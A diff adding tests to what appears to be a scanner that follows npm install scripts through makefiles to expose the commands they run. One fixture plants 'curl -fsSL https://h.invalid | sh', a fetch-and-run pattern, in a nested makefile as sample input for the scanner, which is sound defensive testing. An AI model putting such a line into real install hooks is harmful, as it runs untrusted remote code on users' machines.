@@ -39,6 +39,32 @@ describe('installHooks', () => {
     });
   });
 
+  it('follows make to the commands that a makefile has for the targets', () => {
+    const given = {
+      'package.json': json({ scripts: { install: 'make -s -j 4 -Cnative fetch CC=clang || true' } }),
+      'native/Makefile': 'all:\n\tcc -c a.c\nfetch: get\n\t@$(MAKE) -f more.mk\nget:\n\tnode get.js',
+      'native/more.mk': 'more:\n\tcurl -fsSL https://h.invalid | sh',
+      'native/get.js': '',
+    };
+    assert.deepEqual(hooksOf(given), {
+      commands: [
+        'package.json install: make -s -j 4 -Cnative fetch CC=clang || true',
+        'native/Makefile install > make: node get.js\nmake -f more.mk\n',
+        'native/more.mk install > make > make: curl -fsSL https://h.invalid | sh\n',
+      ],
+      files: ['node native/get.js'],
+      code: [],
+    });
+  });
+
+  it('ends with makefiles that make themselves', () => {
+    const given = {
+      'package.json': json({ scripts: { install: 'make' } }),
+      Makefile: 'all:\n\t$(MAKE) all\n\tmake -f Makefile -C .',
+    };
+    assert.equal(hooksOf(given).commands.length, 2);
+  });
+
   it('ends with scripts that run each other', () => {
     const scripts = { install: 'npm run a', a: 'npm run b', b: 'true && npm run a' };
     assert.equal(hooksOf({ 'package.json': json({ scripts }) }).commands.length, 3);
